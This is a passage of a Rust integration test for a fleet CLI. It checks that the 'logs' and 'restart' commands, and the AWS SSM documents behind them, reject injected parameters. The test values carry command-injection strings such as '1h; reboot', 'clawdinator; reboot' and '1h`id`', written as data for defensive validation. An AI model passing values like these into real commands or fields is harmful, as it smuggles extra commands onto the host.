    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("ended Failed") && stderr.contains("failed after the restart"), "{stderr}");
}

/// Attack: shell text or another unit as a parameter. The command refuses
/// it before any call, and SSM refuses it against the document's pattern.
#[tokio::test(flavor = "multi_thread")]
async fn logs_and_restart_take_only_a_fleet_unit_and_a_plain_span() {
    let env = env().await;
    let reg = registry(&env, 1);
    let reg = reg.to_str().unwrap();
    let ami = fleet_ami(&env, "fleet-1").await;
    let id = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    env.emulator.start_recording().unwrap();
    for args in [
        &["fleet", "logs", "clawdinator-1", "--unit", "sshd"][..],
        &["fleet", "logs", "clawdinator-1", "--since", "1h; reboot"],
        &["fleet", "restart", "clawdinator-1", "--unit", "clawdinator; reboot"],
    ] {
        let out = run(&env, &[args, &["--instances", reg]].concat());
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(parameters_sent(&env, "clawdinator-logs").await.is_empty());
    assert!(parameters_sent(&env, "clawdinator-restart").await.is_empty());
    for (document, key, value) in [
        ("clawdinator-restart", "unit", "clawdinator; reboot"),
        ("clawdinator-restart", "unit", "sshd.service"),
        ("clawdinator-logs", "since", "1h`id`"),
    ] {
        let mut send = env.aws.ssm().send_command().document_name(document).instance_ids(&id);
        for (k, v) in [("unit", "clawdinator"), ("since", "1h"), ("lines", "10")] {
            if document == "clawdinator-logs" || k == "unit" {
                send = send.parameters(k, vec![if k == key { value.to_string() } else { v.to_string() }]);
            }
        }
        let err = send.send().await.unwrap_err();
        assert!(format!("{err:?}").contains("InvalidParameters"), "{document} {key}={value}: {err:?}");
    }
}
